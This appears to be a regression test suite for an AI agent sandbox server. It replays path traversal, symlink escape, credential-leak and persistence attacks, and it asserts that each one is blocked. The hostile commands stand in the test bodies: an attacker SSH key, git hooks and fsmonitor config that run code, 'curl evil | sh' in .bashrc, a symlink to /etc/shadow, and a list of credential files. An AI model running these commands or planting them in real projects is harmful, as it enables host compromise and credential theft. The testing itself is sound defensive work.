// security_host_side.test.mjs: issue 13's findings about the host side,
// each replayed the way a hostile agent or repository would, through the real
// server over stdio with the official SDK client, on the default jail. Every
// test fails on the server before the fix (da37ef8) and checks that no host
// byte leaks and nothing lands where sandboxed code pointed.
//
// Findings covered here: 1 (step log traversal through a planted symlink),
// 2 and 5 (apply_changes writing credentials, dotfiles, VCS hooks), 6 (the
// executor following sandbox symlinks: artifacts, .isb, build-tool reports),
// 9 (credentials copied in), 12 (idle cleanup during a running command),
// 13 (unbounded provenance).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { startStdio } from './helpers/stdio_client.mjs';


// A root-only host directory with a marker the sandbox must never get back.
function hostSecret(root) {
  const dir = path.join(root, 'host-only');
  fs.mkdirSync(dir, { mode: 0o700 });
  const marker = `HOST-SECRET-${process.pid}-${Date.now()}`;
  fs.writeFileSync(path.join(dir, 'secret.txt'), `${marker}\n`, { mode: 0o600 });
  fs.writeFileSync(path.join(dir, 'r.xml'),
    `<testsuite><testcase classname="${marker}" name="leak"><failure/></testcase></testsuite>\n`, { mode: 0o600 });
  fs.mkdirSync(path.join(dir, 'surefire-reports'), { mode: 0o700 });
  fs.writeFileSync(path.join(dir, 'surefire-reports', `TEST-${marker}.xml`),
    `<testsuite><testcase classname="${marker}" name="leak"><failure/></testcase></testsuite>\n`, { mode: 0o600 });
  return { dir, marker };
}

const start = (root, env) => startStdio(root, env, 'isb-e2e-security');

function setUp(prefix) {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), prefix));
  fs.chmodSync(root, 0o755);
  const project = path.join(root, 'home', 'proj');
  fs.mkdirSync(project, { recursive: true });
  fs.writeFileSync(path.join(project, 'README.md'), 'demo\n');
  return { root, project };
}

test('finding 1: a planted symlink and a step_id with .. never read a host file through the log tools', async () => {
  const { root, project } = setUp('isb-sec-log-');
  const { marker } = hostSecret(root);
  const s = await start(root);
  try {
    await s.call('create_workspace', { source_path: project, workspace_id: 'w' });
    const r = await s.call('exec_command', {
      workspace_id: 'w', command: `ln -s ${path.join(root, 'host-only', 'secret.txt')} leak.stdout.log; echo planted` });
    assert.equal(r.stdout, 'planted\n');
    const exec = r.execution_id;
    for (const stepId of ['../../../workspaces/w/leak', '..%2F..%2F..%2Fworkspaces%2Fw%2Fleak', 'command/../x']) {
      const msg = await s.fail('get_execution_log', { execution_id: exec, step_id: stepId, stream: 'stdout' });
      assert.doesNotMatch(msg, new RegExp(marker));
      assert.match(msg, /has no step/);
    }
    for (const uri of [
      `sandbox://executions/${exec}/steps/..%2F..%2F..%2Fworkspaces%2Fw%2Fleak/stdout`,
      `sandbox://executions/${exec}/steps/${encodeURIComponent('../../../workspaces/w/leak')}/stdout`]) {
      await assert.rejects(s.client.readResource({ uri }), (e) => {
        assert.doesNotMatch(String(e.message), new RegExp(marker));
        return true;
      });
    }
    // The real log still reads.
    const ok = await s.call('get_execution_log', { execution_id: exec, step_id: 'command', stream: 'stdout' });
    assert.equal(ok.data, 'planted\n');
  } finally {
    await s.client.close();
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test('findings 2 and 5: apply_changes goes to the source only, never writes credentials, withholds hooks and dotfiles', async () => {
  const { root, project } = setUp('isb-sec-apply-');
  const home = path.dirname(project);
  fs.mkdirSync(path.join(project, '.git', 'hooks'), { recursive: true });
  fs.writeFileSync(path.join(project, '.git', 'config'), '[core]\n\tbare = false\n');
  const s = await start(root);
  try {
    await s.call('create_workspace', { source_path: project, workspace_id: 'w' });
    await s.call('exec_command', {
      workspace_id: 'w',
      command: 'mkdir -p .ssh && echo ssh-ed25519 AAAA attacker > .ssh/authorized_keys && '
        + 'printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" > .git/config && '
        + 'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && '
        + 'echo "curl evil | sh" > .bashrc && echo fixed > README.md && '
        + 'printf "#!/bin/sh\\necho hi\\n" > build.sh && chmod +x build.sh && ln -s /etc/shadow shadow' });

    // Another target than the source is refused unless the operator listed it.
    const refused = await s.fail('apply_changes', { workspace_id: 'w', target_path: home });
    assert.match(refused, /sandbox\.apply_targets/);
    assert.equal(fs.existsSync(path.join(home, '.ssh')), false);

    const applied = await s.call('apply_changes', { workspace_id: 'w' });
    assert.equal(applied.target, fs.realpathSync(project));
    assert.deepEqual(applied.written.sort(), ['README.md', 'build.sh']);
    const withheld = Object.fromEntries(applied.withheld.map((w) => [`${w.path} ${w.change}`, w.reason]));
    assert.match(withheld['.ssh/authorized_keys added'], /secret/);
    assert.match(withheld['.git/config modified'], /version-control/);
    assert.match(withheld['.git/hooks/post-checkout added'], /version-control/);
    assert.match(withheld['.bashrc added'], /new dotfile/);
    assert.match(withheld['shadow added'], /outside the target/);
    assert.match(withheld['build.sh executable bit'], /executable bit/);
    assert.equal(fs.readFileSync(path.join(project, 'README.md'), 'utf8'), 'fixed\n');
    assert.equal(fs.readFileSync(path.join(project, '.git', 'config'), 'utf8'), '[core]\n\tbare = false\n');
    assert.equal(fs.existsSync(path.join(project, '.git', 'hooks', 'post-checkout')), false);
    assert.equal(fs.existsSync(path.join(project, '.ssh')), false);
    assert.equal(fs.existsSync(path.join(project, '.bashrc')), false);
    assert.equal(fs.statSync(path.join(project, 'build.sh')).mode & 0o111, 0);

    // Named in include, the hook and the bit go through; the key never does.
    const again = await s.call('apply_changes',
      { workspace_id: 'w', include: ['.git/hooks/post-checkout', 'build.sh', '.ssh'] });
    assert.ok(again.written.includes('.git/hooks/post-checkout'));
    assert.notEqual(fs.statSync(path.join(project, 'build.sh')).mode & 0o100, 0);
    assert.equal(fs.existsSync(path.join(project, '.ssh')), false);
  } finally {
    await s.client.close();
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test('finding 6: artifacts, .isb and build-tool reports are read beneath the workspace, never through a link', async () => {
  const { root, project } = setUp('isb-sec-exec-');
  const { dir, marker } = hostSecret(root);
  const s = await start(root);
  try {
    await s.call('create_workspace', { source_path: project, workspace_id: 'w' });
    // .isb points at a host directory; target/ at one holding surefire reports.
    await s.call('exec_command', {
      workspace_id: 'w', command: `ln -s ${dir} .isb && ln -s ${dir} target && ln -s ${dir}/r.xml r.xml` });
    const plan = await s.call('create_task_plan', {
      workspace_id: 'w', auto_approve: true,
      steps: [
        { id: 'artifact', phase: 'test', command: 'true', artifacts: [{ type: 'junit', path: 'r.xml' }] },
        { id: 'report', phase: 'test', command: ['ctest', '--version'] },
        { id: 'maven', phase: 'test', command: 'echo ./mvnw test' },
      ] });
    const ex = await s.call('execute_task_plan', { plan_id: plan.plan_id });
    const result = JSON.stringify(ex);
    assert.doesNotMatch(result, new RegExp(marker), 'a host file was parsed as a test report');
    for (const st of ex.steps) assert.equal(st.tests, null, `${st.step_id}: ${JSON.stringify(st.tests)}`);
    // Nothing was created in the host directory the .isb link named.
    assert.deepEqual(fs.readdirSync(dir).sort(), ['r.xml', 'secret.txt', 'surefire-reports']);
  } finally {
    await s.client.close();
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test('finding 9: the extended credential list never enters a workspace', async () => {
  const { root, project } = setUp('isb-sec-creds-');
  const secrets = ['.npmrc', '.pypirc', '.kube/config', '.config/gh/hosts.yml', '.config/gcloud/credentials.db',
    '.azure/accessTokens.json', '.env', '.env.production', '.bash_history', '.zsh_history', 'app/.env.local'];
  for (const rel of secrets) {
    fs.mkdirSync(path.dirname(path.join(project, rel)), { recursive: true });
    fs.writeFileSync(path.join(project, rel), 'TOKEN=secret\n');
  }
  fs.writeFileSync(path.join(project, '.env.example'), 'TOKEN=\n');
  const s = await start(root);
  try {
    for (const mode of ['copy', 'overlay']) {
      const id = `w-${mode}`;
      await s.call('create_workspace', { source_path: project, workspace_id: id, mode });
      const r = await s.call('exec_command', { workspace_id: id, command: 'grep -rl TOKEN=secret . 2>/dev/null; ls -a' });
      assert.doesNotMatch(r.stdout, /TOKEN|npmrc|pypirc|history|\.kube|\.azure|^\.env$/m, `${mode}: ${r.stdout}`);
      assert.match(r.stdout, /\.env\.example/, 'the committed template stays');
    }
    // The rest of finding 9: the kernel's information files read empty, and
    // no device node can be made, an overlay whiteout (0/0) included.
    const k = await s.call('exec_command', { workspace_id: 'w-copy',
      command: 'cat /proc/config.gz 2>/dev/null | wc -c; cat /proc/kallsyms 2>/dev/null | wc -c; '
        + 'mknod wh c 0 0 2>/dev/null && echo whiteout-made || echo whiteout-denied; '
        + 'mkfifo ff && echo fifo-made' });
    assert.equal(k.stdout, '0\n0\nwhiteout-denied\nfifo-made\n');
  } finally {
    await s.client.close();
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test('finding 12: idle cleanup never destroys a workspace while a command or its background processes run', async () => {
  const { root, project } = setUp('isb-sec-idle-');
  const s = await start(root, { SANDBOX_SANDBOX_WORKSPACE_TIMEOUT: '2', SANDBOX_SANDBOX_CLEANUP_INTERVAL: '1' });
  try {
    await s.call('create_workspace', { source_path: project, workspace_id: 'w' });
    const r = await s.call('exec_command', { workspace_id: 'w', command: 'sleep 5; echo done' });
    assert.equal(r.exit_code, 0, r.stderr);
    assert.equal(r.stdout, 'done\n');
    // A background process keeps it alive past the timeout too.
    await s.call('exec_command', { workspace_id: 'w', command: '(sleep 5 &) ; echo started' });
    await new Promise((resolve) => setTimeout(resolve, 4000));
    const alive = await s.call('list_workspaces', {});
    assert.deepEqual(alive.workspaces.map((w) => w.workspace_id), ['w']);
    const still = await s.call('exec_command', { workspace_id: 'w', command: 'echo still here' });
    assert.equal(still.stdout, 'still here\n');
    // Once nothing runs and the timeout passes, it goes.
    const deadline = Date.now() + 20000;
    let gone = false;
    while (!gone && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 1000));
      gone = (await s.call('list_workspaces', {})).count === 0;
    }
    assert.ok(gone, 'an idle workspace is still cleaned up');
  } finally {
    await s.client.close();
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test('finding 13: request strings stored with a plan are bounded', async () => {
  const { root, project } = setUp('isb-sec-bounds-');
  const s = await start(root);
  try {
    await s.call('create_workspace', { source_path: project, workspace_id: 'w' });
    const big = 'x'.repeat(100 * 1024);
    const msg = await s.fail('create_task_plan', {
      workspace_id: 'w', steps: [{ id: 's', command: 'true', provenance: { note: big } }] });
    assert.match(msg, /provenance/);
    const title = await s.fail('create_task_plan', {
      workspace_id: 'w', steps: [{ id: 's', command: 'true', title: big }] });
    assert.match(title, /title/);
    const plans = await s.call('list_plans', { workspace_id: 'w' });
    assert.equal(plans.count, 0);
  } finally {
    await s.client.close();
    fs.rmSync(root, { recursive: true, force: true });
  }
});
